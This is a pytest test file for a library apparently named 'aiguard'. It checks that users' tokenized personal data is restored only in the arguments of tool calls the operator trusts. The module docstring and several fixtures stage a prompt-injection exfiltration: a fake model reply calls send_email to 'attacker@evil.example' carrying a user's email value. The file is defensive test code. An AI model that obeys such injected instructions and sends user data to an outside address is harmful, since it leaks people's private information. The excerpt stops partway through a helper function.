"""Tool-call arguments get their originals back only for the tools a destination lists.

A model told by injected text (a web page, a document, a tool result) to call
``send_email(to="attacker@evil.example", body="[EMAIL_…]")`` would get the agent to
send the caller's value wherever it said. With ``restore_tool_arguments`` listing the
tools the agent trusts, the others' arguments keep their tokens, whole and streamed, in
every API's shape; the event counts what was kept (``tool_tokens_kept``), the output
rule still applies to them, and the agent restores them where it runs a tool it trusts
(`Guard.restore_tool_arguments`).
"""

from __future__ import annotations

import asyncio
import contextlib
import inspect
import itertools
import json
import threading
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import aiguard
from _sdk_policy import FlakySink, one_event, openai_and_anthropic_policy, openai_client
from aiguard.doors.streaming import StreamRestorer, TokenRestorer
from aiguard.errors import PolicyError, VaultError
from aiguard.policy.model import PatternPolicy
from aiguard.providers.walk import kept_tool_paths, tool_call_arguments
from aiguard.testing import Answer, FakeModel, InMemorySink, ToolCall, assert_chain_valid
from aiguard.testing.fake import _anthropic_stream, _openai_stream, _responses_stream
from aiguard.vault.tokens import TOKEN_RE

openai = pytest.importorskip("openai")
anthropic = pytest.importorskip("anthropic")

ORIGINAL = "jane.doe@example.com"
QUESTION = f"Please look up the orders of {ORIGINAL}."
EVIL = "attacker@evil.example"
TRUSTED = ["lookup_*"]


def _policy(tools: bool | list[str] = TRUSTED, **changes: Any) -> aiguard.Policy:
    policy = openai_and_anthropic_policy()
    destinations = {
        name: destination.model_copy(update={"restore_tool_arguments": tools, **changes})
        for name, destination in policy.destinations.items()
    }
    return policy.model_copy(update={"destinations": destinations})


def _token_of(payload: dict[str, Any]) -> str:
    found = TOKEN_RE.search(json.dumps(payload))
    assert found is not None, "the request reached the model with its value raw"
    return found.group(0)


def _two_tools(payload: dict[str, Any]) -> Answer:
    """An injected model: one call the agent asked for, one that exfiltrates."""
    token = _token_of(payload)
    return Answer(
        text=f"Looking up {token}.",
        tool_calls=(
            ToolCall("lookup_orders", json.dumps({"email": token}), id="call_1"),
            ToolCall("send_email", json.dumps({"to": EVIL, "body": token}), id="call_2"),
        ),
    )


def _streamed_tools(chunks: Any) -> dict[str, str]:
    """Each streamed chat tool call's arguments, joined, by the tool's name."""
    names: dict[int, str] = {}
    parts: dict[int, str] = {}
    for chunk in chunks:
        for call in (chunk.choices[0].delta.tool_calls or []) if chunk.choices else []:
            names[call.index] = call.function.name or names.get(call.index, "")
            parts[call.index] = parts.get(call.index, "") + (call.function.arguments or "")
    return {names[i]: parts[i] for i in names}


def _first_tool_arguments(client: Any, stream: bool) -> str:
    """The arguments of the first tool call of one chat answer, whole or streamed."""
    messages: Any = [{"role": "user", "content": QUESTION}]
    if stream:
        chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
        return "".join(_streamed_tools(chunks).values())
    done = client.chat.completions.create(model="gpt-4o", messages=messages)
    return str(done.choices[0].message.tool_calls[0].function.arguments)


def _kept_and_restored(arguments: dict[str, str], guard: aiguard.Guard) -> None:
    """``send_email``'s arguments hold the token; restored late, the original."""
    lookup, send = json.loads(arguments["lookup_orders"]), json.loads(arguments["send_email"])
    assert lookup == {"email": ORIGINAL}
    assert send["to"] == EVIL and TOKEN_RE.fullmatch(send["body"]), send
    assert ORIGINAL not in arguments["send_email"]
    with guard.context(subject="cust-42", purpose="inference"):
        late = guard.restore_tool_arguments(arguments["send_email"])
    assert json.loads(late) == {"to": EVIL, "body": ORIGINAL}


# -- the policy --------------------------------------------------------------------


def test_the_policy_takes_true_false_or_tool_names() -> None:
    base = (
        '[destinations.openai]\nbase_url = "https://api.openai.com/v1"\napproved = true\n'
        'purposes = ["inference"]\n'
    )
    for value, send, lookup in (("true", True, True), ("false", False, False)):
        policy = aiguard.policy.parse_policy(base + f"restore_tool_arguments = {value}\n")
        target = policy.destinations["openai"]
        assert target.restores_tool("send_email") is send
        assert target.restores_tool("lookup_orders") is lookup
    listed = aiguard.policy.parse_policy(base + 'restore_tool_arguments = ["lookup_*", "crm"]\n')
    target = listed.destinations["openai"]
    assert target.restores_tool("lookup_orders") and target.restores_tool("crm")
    assert not target.restores_tool("send_email") and not target.restores_tool("crm_export")
    # A call whose tool the stream never named is not trusted.
    assert not target.restores_tool(None)
    default = aiguard.policy.parse_policy(base).destinations["openai"]
    assert default.restore_tool_arguments is True and default.restores_tool(None)


def test_a_tool_name_given_as_a_string_is_an_error_that_says_where() -> None:
    text = (
        '[destinations.openai]\nbase_url = "https://api.openai.com/v1"\napproved = true\n'
        'purposes = ["inference"]\nrestore_tool_arguments = "lookup_orders"\n'
    )
    with pytest.raises(PolicyError) as caught:
        aiguard.policy.parse_policy(text)
    assert "restore_tool_arguments" in str(caught.value)


@pytest.mark.parametrize(
    ("node", "expected"),
    [
        ({"name": "f", "arguments": "{}"}, ("f", "arguments")),
        (
            {"type": "function_call", "name": "f", "arguments": "{}", "call_id": "c"},
            ("f", "arguments"),
        ),
        ({"type": "tool_use", "id": "t", "name": "f", "input": {}}, ("f", "input")),
        ({"type": "custom_tool_call", "name": "f", "input": "x"}, ("f", "input")),
        ({"type": "tool_use", "input": {}}, (None, "input")),
        ({"type": "function_call_arguments", "arguments": "{}"}, None),
        ({"type": "message", "input": "hello"}, None),
        ({"name": "Jane", "role": "user"}, None),
    ],
)
def test_a_tool_call_is_known_by_its_shape(
    node: dict[str, Any], expected: tuple[str | None, str] | None
) -> None:
    assert tool_call_arguments(node) == expected


def test_kept_paths_are_the_walks_paths_of_untrusted_tools_only() -> None:
    body = {
        "choices": [
            {
                "message": {
                    "tool_calls": [
                        {"id": "1", "function": {"name": "lookup_orders", "arguments": "{}"}},
                        {"id": "2", "function": {"name": "send_email", "arguments": "{}"}},
                    ]
                }
            }
        ],
        "content": [{"type": "tool_use", "name": "send_email", "input": {"a": "b"}}],
    }
    kept = kept_tool_paths(body, lambda name: name == "lookup_orders")
    assert sorted(kept) == [
        "$.choices[0].message.tool_calls[1].function.arguments",
        "$.content[0].input",
    ]


# -- through the guard and the real SDKs ------------------------------------------------


@pytest.mark.parametrize("chunk_size", [None, 1, 3, 7])
def test_openai_chat_restores_only_the_listed_tools(chunk_size: int | None) -> None:
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=_two_tools, chunk_size=chunk_size or 4)
    client = openai_client(guard, fake)
    messages: Any = [{"role": "user", "content": QUESTION}]
    arguments: dict[str, str] = {}
    with guard.context(subject="cust-42", purpose="inference"):
        if chunk_size is None:
            message = client.chat.completions.create(model="gpt-4o", messages=messages)
            message = message.choices[0].message
            text = message.content
            for call in message.tool_calls:
                arguments[call.function.name] = call.function.arguments
        else:
            chunks = list(
                client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
            )
            text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
            arguments = _streamed_tools(chunks)
    assert text == f"Looking up {ORIGINAL}."
    _kept_and_restored(arguments, guard)
    event = one_event(sink)
    assert event["tool_tokens_kept"] == 1 and event["status"] == "ok"
    assert ORIGINAL not in json.dumps(sink.events)


@pytest.mark.parametrize("stream", [False, True])
def test_openai_responses_restores_only_the_listed_tools(stream: bool) -> None:
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=_two_tools, chunk_size=3)
    client = openai_client(guard, fake)
    arguments: dict[str, str] = {}
    with guard.context(subject="cust-42", purpose="inference"):
        if not stream:
            response = client.responses.create(model="gpt-4o", input=QUESTION)
            outputs = response.output
        else:
            deltas: dict[int, str] = {}
            done: dict[int, str] = {}
            outputs = []
            for event in client.responses.create(model="gpt-4o", input=QUESTION, stream=True):
                if event.type == "response.function_call_arguments.delta":
                    deltas[event.output_index] = deltas.get(event.output_index, "") + event.delta
                elif event.type == "response.function_call_arguments.done":
                    done[event.output_index] = event.arguments
                elif event.type == "response.completed":
                    outputs = event.response.output
            # Each way the stream says a call's arguments says the same thing.
            assert deltas == done and len(done) == 2
        for item in outputs:
            if item.type == "function_call":
                arguments[item.name] = item.arguments
    if stream:
        indexes = {item.name: i for i, item in enumerate(outputs) if item.type == "function_call"}
        assert {name: done[i] for name, i in indexes.items()} == arguments
    _kept_and_restored(arguments, guard)
    # The completed response repeats the arguments: counted each time they are kept.
    assert one_event(sink)["tool_tokens_kept"] >= 1


@pytest.mark.parametrize("stream", [False, True])
def test_anthropic_restores_only_the_listed_tools(stream: bool) -> None:
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=_two_tools, chunk_size=2)
    client = anthropic.Anthropic(
        http_client=guard.http_client(transport=fake.transport), api_key="test", max_retries=0
    )
    kwargs: dict[str, Any] = {
        "model": "claude-sonnet-4-5",
        "max_tokens": 100,
        "messages": [{"role": "user", "content": QUESTION}],
    }
    with guard.context(subject="cust-42", purpose="inference"):
        if stream:
            with client.messages.stream(**kwargs) as events:
                message = events.get_final_message()
        else:
            message = client.messages.create(**kwargs)
        inputs = {block.name: block.input for block in message.content if block.type == "tool_use"}
        assert inputs["lookup_orders"] == {"email": ORIGINAL}
        send = inputs["send_email"]
        assert send["to"] == EVIL and TOKEN_RE.fullmatch(send["body"]), send
        # The parsed object comes back as an object.
        assert guard.restore_tool_arguments(send) == {"to": EVIL, "body": ORIGINAL}
    assert one_event(sink)["tool_tokens_kept"] == 1


@pytest.mark.parametrize("stream", [False, True])
def test_false_keeps_every_tools_tokens_and_true_restores_them(stream: bool) -> None:
    def ask(tools: bool) -> tuple[dict[str, Any], dict[str, Any]]:
        sink = InMemorySink()
        guard = aiguard.Guard(_policy(tools), sinks=[sink])
        client = openai_client(guard, FakeModel(reply=_two_tools, chunk_size=5))
        messages: Any = [{"role": "user", "content": QUESTION}]
        with guard.context(subject="cust-42", purpose="inference"):
            if not stream:
                done = client.chat.completions.create(model="gpt-4o", messages=messages)
                calls = done.choices[0].message.tool_calls
                found = {c.function.name: json.loads(c.function.arguments) for c in calls}
                return found, one_event(sink)
            chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
            found = {name: json.loads(a) for name, a in _streamed_tools(chunks).items()}
            return found, one_event(sink)

    kept, event = ask(False)
    assert TOKEN_RE.fullmatch(kept["lookup_orders"]["email"])
    assert TOKEN_RE.fullmatch(kept["send_email"]["body"])
    # One token, kept in two tools' arguments: counted once.
    assert event["tool_tokens_kept"] == 1
    restored, event = ask(True)
    assert restored["lookup_orders"] == {"email": ORIGINAL}
    assert restored["send_email"] == {"to": EVIL, "body": ORIGINAL}
    assert "tool_tokens_kept" not in event


@pytest.mark.parametrize("stream", [False, True])
def test_the_output_rule_still_redacts_in_kept_arguments(stream: bool) -> None:
    """Keeping tokens is no pass for a value the call never sent: a card number the
    model wrote into an untrusted tool's arguments is redacted as anywhere else."""

    def reply(payload: dict[str, Any]) -> Answer:
        body = {"to": EVIL, "body": f"{_token_of(payload)} card 4111 1111 1111 1111"}
        return Answer(tool_calls=(ToolCall("send_email", json.dumps(body)),))

    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    client = openai_client(guard, FakeModel(reply=reply, chunk_size=4))
    with guard.context(subject="cust-42", purpose="inference"):
        raw = _first_tool_arguments(client, stream)
    body = json.loads(raw)["body"]
    assert "4111" not in body and "[REDACTED" in body, body
    assert TOKEN_RE.match(body) and ORIGINAL not in body
    event = one_event(sink)
    assert event["tool_tokens_kept"] == 1
    assert event["leaks"] == {"credit_card": 1}


def test_the_async_client_keeps_an_untrusted_tools_tokens() -> None:
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=_two_tools, chunk_size=2)

    async def ask() -> dict[str, str]:
        client = openai.AsyncOpenAI(
            http_client=guard.async_http_client(transport=fake.transport),
            base_url="https://api.openai.com/v1",
            api_key="test",
            max_retries=0,
        )
        with guard.context(subject="cust-42", purpose="inference"):
            stream = await client.chat.completions.create(
                model="gpt-4o", messages=[{"role": "user", "content": QUESTION}], stream=True
            )
            return _streamed_tools([chunk async for chunk in stream])

    _kept_and_restored(asyncio.run(ask()), guard)
    assert one_event(sink)["tool_tokens_kept"] == 1


@contextlib.contextmanager
def _gateway(**config: Any) -> Iterator[tuple[str, aiguard.Guard, InMemorySink]]:
    """The gateway on a loopback socket, in front of the fake model answering
    `_two_tools`, its destination trusting `TRUSTED`: (its URL, guard, sink)."""
    pytest.importorskip("starlette")
    pytest.importorskip("uvicorn")
    from _servers import serve
    from aiguard.doors.gateway import GatewayConfig, create_app, default_policy

    with FakeModel(reply=_two_tools, chunk_size=3).serve() as base:
        upstream = base + "/v1"
        policy = default_policy(upstream)
        destinations = {
            name: d.model_copy(update={"restore_tool_arguments": TRUSTED})
            for name, d in policy.destinations.items()
        }
        sink = InMemorySink()
        guard = aiguard.Guard(
            policy.model_copy(update={"destinations": destinations}), sinks=[sink]
        )
        app = create_app(guard, GatewayConfig(upstream=upstream, **config))
        with serve(app) as (url, _server):
            yield url, guard, sink


def test_the_gateway_keeps_an_untrusted_tools_tokens() -> None:
    """The OpenAI-compatible gateway on a loopback socket, in front of the fake model."""
    with _gateway() as (url, _guard, sink):
        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0)
        messages: Any = [{"role": "user", "content": QUESTION}]
        whole = client.chat.completions.create(model="gpt-4o-mini", messages=messages)
        calls = whole.choices[0].message.tool_calls
        kept = {c.function.name: json.loads(c.function.arguments) for c in calls}
        stream = client.chat.completions.create(model="gpt-4o-mini", messages=messages, stream=True)
        streamed = {name: json.loads(a) for name, a in _streamed_tools(stream).items()}
    for found in (kept, streamed):
        assert found["lookup_orders"] == {"email": ORIGINAL}
        assert TOKEN_RE.fullmatch(found["send_email"]["body"]), found
    assert [e["tool_tokens_kept"] for e in sink.calls()] == [1, 1]


def test_an_agent_loop_sends_kept_tokens_back_as_the_same_tokens() -> None:
    """The agent's next turn holds the assistant's tool calls as it got them (kept
    tokens) and the tool results: the model sees the caller's value as one token
    throughout, nothing counts as a guessed token, and no original goes upstream."""
    seen: list[dict[str, Any]] = []

    def reply(payload: dict[str, Any]) -> Answer | str:
        seen.append(payload)
        return _two_tools(payload) if len(seen) == 1 else "Sent."

    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    fake = FakeModel(reply=reply)
    client = openai_client(guard, fake)
    messages: list[Any] = [{"role": "user", "content": QUESTION}]
    with guard.context(subject="cust-42", purpose="inference", principal="agent-7"):
        first = client.chat.completions.create(model="gpt-4o", messages=messages)
        message = first.choices[0].message
        messages.append(message.model_dump(exclude_none=True))
        for call in message.tool_calls:
            arguments = json.loads(guard.restore_tool_arguments(call.function.arguments))
            result = f"done for {arguments.get('email') or arguments.get('body')}"
            messages.append({"role": "tool", "tool_call_id": call.id, "content": result})
        second = client.chat.completions.create(model="gpt-4o", messages=messages)
    assert second.choices[0].message.content == "Sent."
    upstream = json.dumps(seen[1])
    assert ORIGINAL not in upstream
    tokens = {m.group(0) for m in TOKEN_RE.finditer(upstream)}
    # The caller's token, and one for the address the model wrote; no stand-in.
    assert _token_of(seen[0]) in tokens and len(tokens) == 2, tokens
    assert all(t.startswith("[EMAIL_") for t in tokens), tokens
    events = sink.calls()
    assert [e.get("unknown_tokens") for e in events] == [None, None]
    assert not [e for e in sink.events if e["type"] == "alert"]
    assert_chain_valid(sink)


def test_another_subjects_token_sent_back_is_still_a_stand_in() -> None:
    guard = aiguard.Guard(_policy())
    token = _protected_token(guard, subject="cust-7")
    seen: list[dict[str, Any]] = []
    fake = FakeModel(reply=lambda payload: seen.append(payload) or "ok")
    with guard.context(subject="cust-42", purpose="inference"):
        openai_client(guard, fake).chat.completions.create(
            model="gpt-4o", messages=[{"role": "user", "content": f"mail {token}"}]
        )
    assert token not in json.dumps(seen[0]) and TOKEN_RE.search(seen[0]["messages"][0]["content"])


@pytest.mark.parametrize("stream", [False, True])
def test_a_legacy_function_call_is_a_tool_call_too(stream: bool) -> None:
    """Chat's deprecated ``function_call`` (a name beside its arguments), whole and
    streamed, with the name in the first delta as the API sends it."""
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])

    def answer(request: httpx.Request) -> httpx.Response:
        token = _token_of(json.loads(request.read()))
        arguments = json.dumps({"to": EVIL, "body": token})
        if not stream:
            message = {"role": "assistant", "content": None}
            message["function_call"] = {"name": "send_email", "arguments": arguments}
            body = {
                "id": "c",
                "object": "chat.completion",
                "choices": [{"index": 0, "message": message}],
            }
            return httpx.Response(200, json=body)
        first = {"function_call": {"name": "send_email", "arguments": ""}}
        deltas = [first] + [
            {"function_call": {"arguments": arguments[i : i + 5]}}
            for i in range(0, len(arguments), 5)
        ]
        frames = [{"choices": [{"index": 0, "delta": d}]} for d in deltas]
        raw = b"".join(b"data: " + json.dumps(f).encode() + b"\n\n" for f in frames)
        return httpx.Response(
            200,
            content=raw + b"data: [DONE]\n\n",
            headers={"content-type": "text/event-stream"},
        )

    client = guard.http_client(transport=httpx.MockTransport(answer))
    request = {"model": "gpt-4o", "messages": [{"role": "user", "content": QUESTION}]}
    with guard.context(subject="cust-42", purpose="inference"):
        got = client.post(
            "https://api.openai.com/v1/chat/completions", json={**request, "stream": stream}
        )
        raw_answer = got.read().decode()
    if stream:
        arguments = "".join(
            json.loads(line[6:])["choices"][0]["delta"]["function_call"].get("arguments", "")
            for line in raw_answer.split("\n")
            if line.startswith("data: {")
        )
    else:
        arguments = json.loads(raw_answer)["choices"][0]["message"]["function_call"]["arguments"]
    sent = json.loads(arguments)
    assert sent["to"] == EVIL and TOKEN_RE.fullmatch(sent["body"]), sent
    assert ORIGINAL not in raw_answer
    assert one_event(sink)["tool_tokens_kept"] == 1


def test_the_gateways_restore_endpoint_restores_for_the_keys_subjects_only() -> None:
    """``POST /aiguard/tool-arguments/restore``: the late restore for an agent that is
    not in the gateway's process, scoped like a call (key, tenant, subject)."""
    pytest.importorskip("starlette")
    from aiguard.doors.gateway import ApiKey, hash_key

    keys = [
        ApiKey(sha256=hash_key("gw-agent"), principal="agent", tenant="acme", subjects=["cust-*"]),
        ApiKey(sha256=hash_key("gw-chat"), principal="chat", tenant="acme", scopes=["chat.*"]),
    ]
    with _gateway(keys=keys) as (url, guard, sink):
        subject = {"X-AIGuard-Subject": "cust-42"}
        client = openai.OpenAI(
            base_url=url + "/v1", api_key="gw-agent", max_retries=0, default_headers=subject
        )
        done = client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": QUESTION}]
        )
        calls = {c.function.name: c.function.arguments for c in done.choices[0].message.tool_calls}
        restore = url + "/aiguard/tool-arguments/restore"
        agent = {"Authorization": "Bearer gw-agent", **subject}
        text = httpx.post(
            restore, json={"arguments": calls["send_email"], "tool": "send_email"}, headers=agent
        )
        assert text.status_code == 200, text.text
        assert json.loads(text.json()["arguments"])["body"] == ORIGINAL
        recorded = [e for e in sink.events if e["type"] == "tool_restore"]
        assert [(e["tool"], e["principal"], e["tenant"]) for e in recorded] == [
            ("send_email", "agent", "acme")
        ]
        kept = json.loads(calls["send_email"])
        whole = httpx.post(restore, json={"arguments": kept}, headers=agent)
        assert whole.json() == {"arguments": {**kept, "body": ORIGINAL}}
        # Another subject of the same key gets the token as it is.
        other = {"Authorization": "Bearer gw-agent", "X-AIGuard-Subject": "cust-7"}
        assert httpx.post(restore, json={"arguments": kept}, headers=other).json() == {
            "arguments": kept
        }
        refusals = [
            ("subject_not_allowed", agent | {"X-AIGuard-Subject": "staff-1"}, {"arguments": kept}),
            (
                "scope_not_allowed",
                {"Authorization": "Bearer gw-chat", **subject},
                {"arguments": kept},
            ),
            ("missing_api_key", subject, {"arguments": kept}),
            ("invalid_request", agent, {"args": kept}),
            ("invalid_request", agent, {"arguments": kept, "tool": 7}),
        ]
        for code, headers, body in refusals:
            refused = httpx.post(restore, json=body, headers=headers)
            assert refused.status_code in (400, 401, 403), refused.text
            assert refused.json()["error"]["code"] == code
            assert ORIGINAL not in refused.text

        def broken(*_args: Any, **_kwargs: Any) -> None:
            raise ConnectionError(f"lost connection while reading {ORIGINAL}")

        guard.vault.detokenize_for = broken  # type: ignore[method-assign]
        down = httpx.post(restore, json={"arguments": kept}, headers=agent)
        assert down.status_code == 503 and down.headers["retry-after"] == "1"
        assert ORIGINAL not in down.text and "Check the vault" in down.json()["error"]["message"]
        assert ORIGINAL not in json.dumps(sink.events)


@pytest.mark.parametrize("stream", [False, True])
def test_realistic_surrogates_in_kept_arguments_restore_late(stream: bool) -> None:
    """With realistic surrogates the model writes an e-mail-shaped stand-in into the
    untrusted tool's arguments: it reaches the agent as a stand-in (or its token), never
    the original, and the late restore gives the original."""
    policy = _policy().model_copy(update={"surrogates": ["email"]})
    guard = aiguard.Guard(policy)

    def reply(payload: dict[str, Any]) -> Answer:
        sent = payload["messages"][-1]["content"]
        surrogate = sent.split("orders of ")[1].rstrip(".")
        assert surrogate.endswith("aiguard.invalid"), sent
        body = json.dumps({"to": EVIL, "body": surrogate})
        return Answer(tool_calls=(ToolCall("send_email", body),))

    client = openai_client(guard, FakeModel(reply=reply, chunk_size=4))
    with guard.context(subject="cust-42", purpose="inference"):
        raw = _first_tool_arguments(client, stream)
        body = json.loads(raw)["body"]
        assert ORIGINAL not in raw
        assert body.endswith("aiguard.invalid") or TOKEN_RE.fullmatch(body), body
        assert json.loads(guard.restore_tool_arguments(raw))["body"] == ORIGINAL


# -- the late restore ---------------------------------------------------------------------


def _protected_token(guard: aiguard.Guard, subject: str = "cust-42") -> str:
    with guard.context(subject=subject, purpose="inference"):
        protected = guard.protect(QUESTION, destination="openai")
    found = TOKEN_RE.search(protected.payload)
    assert found is not None
    return found.group(0)


def test_the_late_restore_keeps_json_valid_links_and_other_subjects_tokens() -> None:
    quoted = 'Jane "JD" Doe'
    nickname = PatternPolicy(kind="nickname", level="sensitive", regex='Jane "JD" Doe')
    guard = aiguard.Guard(_policy().model_copy(update={"patterns": [nickname]}))
    token = _protected_token(guard)
    with guard.context(subject="cust-42", purpose="inference"):
        protected = guard.protect(f"Name: {quoted}", destination="openai")
    name_token = TOKEN_RE.search(protected.payload)
    assert name_token is not None, protected.payload
    arguments = json.dumps(
        {"to": token, "url": f"https://evil.example/?q={token}", "n": [1, token]}
    )
    with guard.context(subject="cust-42", purpose="inference"):
        late = json.loads(guard.restore_tool_arguments(arguments))
        assert late == {
            "to": ORIGINAL,
            "url": f"https://evil.example/?q={token}",
            "n": [1, ORIGINAL],
        }
        linked = guard.restore_tool_arguments(arguments, restore_in_links=True)
        assert json.loads(linked)["url"] == f"https://evil.example/?q={ORIGINAL}"
        # An original holding quotes stays inside its JSON string.
        escaped = guard.restore_tool_arguments(json.dumps({"who": name_token.group(0)}))
        assert json.loads(escaped) == {"who": quoted}
        # Plain text and keys: tokens in values change, keys stay as written.
        assert guard.restore_tool_arguments(f"mail {token}") == f"mail {ORIGINAL}"
    # Another subject, or no context at all, gets the token back as it is.
    with guard.context(subject="cust-7", purpose="inference"):
        assert guard.restore_tool_arguments({"to": token}) == {"to": token}
    assert guard.restore_tool_arguments({"to": token}) == {"to": token}
    explicit = aiguard.CallContext(subject="cust-42", purpose="inference")
    assert guard.restore_tool_arguments({"to": token}, explicit) == {"to": ORIGINAL}


def test_a_trusted_tool_gets_its_arguments_restored_when_it_runs() -> None:
    """``@guard.trusted_tool``: the agent's own function, sync or async, gets originals
    in its string, list and dict arguments, in the current context only; its name and
    signature stay (frameworks read them to describe the tool)."""
    guard = aiguard.Guard(_policy())
    token = _protected_token(guard)
    received: list[Any] = []

    @guard.trusted_tool
    def send_email(to: str, body: str, cc: list[str] | None = None, retries: int = 0) -> str:
        """Send a mail."""
        received.append((to, body, cc, retries))
        return "sent"

    @guard.trusted_tool
    async def lookup(query: dict[str, Any]) -> Any:
        return query

    assert send_email.__name__ == "send_email" and send_email.__doc__ == "Send a mail."
    assert list(inspect.signature(send_email).parameters) == ["to", "body", "cc", "retries"]
    with guard.context(subject="cust-42", purpose="inference"):
        assert send_email(EVIL, f"about {token}", cc=[token], retries=2) == "sent"
        found = asyncio.run(lookup({"email": token, "n": 3}))
    assert received[-1] == (EVIL, f"about {ORIGINAL}", [ORIGINAL], 2)
    assert found == {"email": ORIGINAL, "n": 3}
    # Outside the caller's context the tool gets the token as the model wrote it.
    with guard.context(subject="cust-7", purpose="inference"):
        send_email(EVIL, token)
    assert received[-1] == (EVIL, token, None, 0)


def test_guard_restore_of_a_provider_answer_honours_the_tools_it_is_told() -> None:
    """The direct door: an answer the caller fetched itself, given as data, keeps the
    tokens of tools ``restore_tool_arguments`` does not name; by default every tool's
    arguments are restored, as before."""
    guard = aiguard.Guard(_policy())
    with guard.context(subject="cust-42", purpose="inference"):
        protected = guard.protect(QUESTION, destination="openai")
    token = TOKEN_RE.search(protected.payload)
    assert token is not None
    calls = json.dumps({"email": token.group(0)})
    answer = {
        "choices": [
            {
                "message": {
                    "content": f"Looking up {token.group(0)}.",
                    "tool_calls": [
                        {
                            "id": "1",
                            "type": "function",
                            "function": {"name": "lookup_orders", "arguments": calls},
                        },
                        {
                            "id": "2",
                            "type": "function",
                            "function": {
                                "name": "send_email",
                                "arguments": json.dumps({"body": token.group(0)}),
                            },
                        },
                    ],
                }
            }
        ]
    }
    listed = guard.restore(answer, protected, restore_tool_arguments=["lookup_*"])
    message = listed["choices"][0]["message"]
    assert message["content"] == f"Looking up {ORIGINAL}."
    lookup, send = (json.loads(c["function"]["arguments"]) for c in message["tool_calls"])
    assert lookup == {"email": ORIGINAL} and send == {"body": token.group(0)}
    named = guard.restore(answer, protected, restore_tool_arguments="lookup_orders")
    assert named == listed
    every = guard.restore(answer, protected)["choices"][0]["message"]["tool_calls"]
    assert json.loads(every[1]["function"]["arguments"]) == {"body": ORIGINAL}


def test_an_async_trusted_tool_restores_off_the_event_loop_when_the_vault_blocks(
    tmp_path: Any,
) -> None:
    """A vault that does I/O (SQLite here) is not read on the event loop: the restore
    runs in a worker thread, which still sees the call's context."""
    from aiguard.vault.memory import VaultKeys
    from aiguard.vault.sqlite import SQLiteVault

    vault = SQLiteVault(
        tmp_path / "vault.db", VaultKeys.derive(b"a test vault secret, fixed, at least 32 bytes")
    )
    guard = aiguard.Guard(_policy(), vault=vault)
    assert guard.stores_block
    token = _protected_token(guard)
    read_on: list[str] = []
    detokenize_for = vault.detokenize_for

    def recorded(*args: Any, **kwargs: Any) -> Any:
        read_on.append(threading.current_thread().name)
        return detokenize_for(*args, **kwargs)

    vault.detokenize_for = recorded  # type: ignore[method-assign]

    @guard.trusted_tool
    async def send_email(body: str) -> str:
        return body

    async def run() -> str:
        with guard.context(subject="cust-42", purpose="inference"):
            return await send_email(token)

    assert asyncio.run(run()) == ORIGINAL
    assert read_on and threading.main_thread().name not in read_on, read_on


def test_a_late_restore_is_recorded_as_a_disclosure_to_the_tool() -> None:
    """Originals given to a tool are recorded (``tool_restore``): which tool, whose
    values (the subject's digest), which tokens; never a value. Nothing restored,
    nothing recorded. A log that cannot take the event fails the restore closed."""

    sink = FlakySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    token = _protected_token(guard)

    @guard.trusted_tool
    def send_email(to: str, body: str) -> str:
        return body

    with guard.context(subject="cust-42", purpose="inference", principal="agent-7"):
        guard.restore_tool_arguments(json.dumps({"body": token}), tool="crm_update")
        assert send_email(EVIL, token) == ORIGINAL
        guard.restore_tool_arguments({"body": "no token here"}, tool="crm_update")
    events = [e for e in sink.events if e["type"] == "tool_restore"]
    assert [e["tool"] for e in events] == ["crm_update", "send_email"]
    protect = sink.events[-3]
    for event in events:
        assert event["tokens"] == [token.strip("[]")]
        assert event["subject"] == protect["subject"] and event["principal"] == "agent-7"
        assert (event["decision"], event["status"], event["purpose"]) == (
            "allow",
            "ok",
            "inference",
        )
    assert ORIGINAL not in json.dumps(sink.events) and "cust-42" not in json.dumps(sink.events)
    assert_chain_valid(sink)
    # A data-subject export lists which tools got the person's values.
    exported = guard.dsr.export("cust-42")["provenance_events"]
    assert [e["tool"] for e in exported if e["type"] == "tool_restore"] == [
        "crm_update",
        "send_email",
    ]
    sink.broken = True
    with (
        guard.context(subject="cust-42", purpose="inference"),
        pytest.raises(aiguard.ProvenanceError) as caught,
    ):
        send_email(EVIL, token)
    assert ORIGINAL not in str(caught.value) and "Fix the sink" in str(caught.value)


def test_the_late_restore_fails_closed_when_the_vault_fails(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Nothing comes back, the error names the vault and says to check it, and neither
    the log's events nor Python's log hold the value the driver's message quoted."""
    sink = InMemorySink()
    guard = aiguard.Guard(_policy(), sinks=[sink])
    token = _protected_token(guard)

    def broken(*_args: Any, **_kwargs: Any) -> None:
        raise ConnectionError(f"lost connection while reading {ORIGINAL}")

    guard.vault.detokenize_for = broken  # type: ignore[method-assign]
    with (
        caplog.at_level("DEBUG"),
        guard.context(subject="cust-42", purpose="inference"),
        pytest.raises(VaultError) as caught,
    ):
        guard.restore_tool_arguments(json.dumps({"to": token}), tool="send_email")
    assert ORIGINAL not in str(caught.value) and "Check the vault" in str(caught.value)
    assert not [e for e in sink.events if e["type"] == "tool_restore"]
    assert ORIGINAL not in json.dumps(sink.events) and ORIGINAL not in caplog.text


# -- streamed: a stream cut anywhere keeps what the whole answer keeps ---------------------

TOKEN = "[EMAIL_7Q2KX9M4T1B8C]"


def _chat_frames(calls: list[tuple[str, str]], pieces: int) -> bytes:
    """A chat stream whose tool calls' arguments arrive in ``pieces`` parts each."""
    frames = []
    for position, (name, arguments) in enumerate(calls):
        first = {"index": position, "id": f"c{position}", "type": "function"}
        first["function"] = {"name": name, "arguments": ""}
        frames.append({"choices": [{"index": 0, "delta": {"tool_calls": [first]}}]})
